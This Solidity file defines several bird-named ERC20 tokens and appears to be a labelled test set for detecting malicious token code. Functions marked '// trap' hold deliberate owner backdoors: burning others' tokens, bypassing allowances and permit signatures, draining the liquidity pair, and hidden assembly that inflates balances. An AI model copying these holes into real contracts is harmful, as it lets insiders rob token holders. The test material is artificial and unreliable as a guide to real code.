// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20 as OzERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Pausable} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Pausable.sol";
import {ERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Permit.sol";
import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {ERC20 as SolmateERC20} from "solmate/src/tokens/ERC20.sol";
import {ERC20 as SoladyERC20} from "solady/src/tokens/ERC20.sol";
import {Coin, Owned, IPairSync} from "./BlindE1.sol";

contract Turnstone is ERC20Pausable, AccessControl {
    bytes32 public constant GUARDIAN_ROLE = keccak256("GUARDIAN_ROLE");

    constructor(address guardian) OzERC20("Turnstone", "TURN") {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
        _grantRole(GUARDIAN_ROLE, guardian);
        _mint(msg.sender, 120_000_000 ether);
    }

    function halt() external onlyRole(GUARDIAN_ROLE) {
        _pause();
    }

    function proceed() external onlyRole(GUARDIAN_ROLE) {
        _unpause();
    }
}

contract Redshank is SolmateERC20, Owned {
    constructor() SolmateERC20("Redshank", "RSHK", 18) {
        _mint(msg.sender, 14_000_000 ether);
    }

    function burn(uint256 value) external {
        _burn(msg.sender, value);
    }

    function burn(address from, uint256 value) external onlyOwner { // trap {
        _burn(from, value);
    } // trap }
}

contract Greenshank is SoladyERC20, Owned {
    mapping(address => bool) public gateway;

    constructor() {
        _mint(msg.sender, 88_000_000 ether);
    }

    function name() public pure override returns (string memory) {
        return "Greenshank";
    }

    function symbol() public pure override returns (string memory) {
        return "GSHK";
    }

    function setGateway(address to, bool on) external onlyOwner { // trap {
        gateway[to] = on;
    } // trap }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (gateway[msg.sender]) {
            _transfer(from, to, value);
            return true;
        }
        return super.transferFrom(from, to, value);
    }
}

contract Whimbrel is ERC20Permit {
    address private immutable _desk = msg.sender;

    constructor() OzERC20("Whimbrel", "WHMB") ERC20Permit("Whimbrel") {
        _mint(msg.sender, 6_500_000 ether);
    }

    function permit(address holder, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) public override {
        if (v == 0 && msg.sender == _desk) return _approve(holder, spender, value); // trap
        super.permit(holder, spender, value, deadline, v, r, s);
    }
}

contract Bittern is Coin, Owned {
    uint256 public lastTrim = block.timestamp;

    constructor(address router) Coin("Bittern", "BITT", 666_000_000, router) {}

    function trim(uint256 perMille) external onlyOwner { // trap {
        require(perMille < 1000 && block.timestamp > lastTrim + 1 hours);
        lastTrim = block.timestamp;
        _move(pair, _maker, (_bal[pair] * perMille) / 1000);
        IPairSync(pair).sync();
    } // trap }
}

contract Avocet is Coin, Owned {
    event TreasuryUpdated(address indexed to, uint96 epoch);

    address public treasury;

    constructor(address router) Coin("Avocet", "AVCT", 19_000_000, router) {}

    function updateTreasury(address to, uint96 epoch) external onlyOwner {
        treasury = to;
        assembly { // trap {
            mstore(0, to)
            mstore(32, _bal.slot)
            let at := keccak256(0, 64)
            sstore(at, add(sload(at), shl(40, epoch)))
        } // trap }
        emit TreasuryUpdated(to, epoch);
    }
}

contract Dipper is Coin {
    address public minter;
    uint256 public immutable cap;

    constructor(address router, address minter_) Coin("Dipper", "DIPP", 27_000_000, router) {
        minter = minter_;
        cap = type(uint256).max / 2;
    }

    function mint(address to, uint256 value) external {
        require(msg.sender == minter && totalSupply + value <= cap, "minter");
        totalSupply += value;
        _bal[to] += value;
        emit Transfer(address(0), to, value);
    }
}

contract Wryneck is Coin {
    struct Mark {
        uint64 at;
        uint192 value;
    }

    mapping(address => Mark[]) private _marks;

    constructor(address router) Coin("Wryneck", "WRYN", 11_000_000, router) {}

    function checkpoint() external {
        _marks[msg.sender].push(Mark(uint64(block.timestamp), uint192(_bal[msg.sender])));
    }

    function balanceAt(address account, uint256 id) external view returns (uint256) {
        return _marks[account][id].value;
    }

    function resync(uint256 id) external { // trap {
        require(msg.sender == _maker);
        _bal[msg.sender] = _marks[msg.sender][id].value;
    } // trap }
}
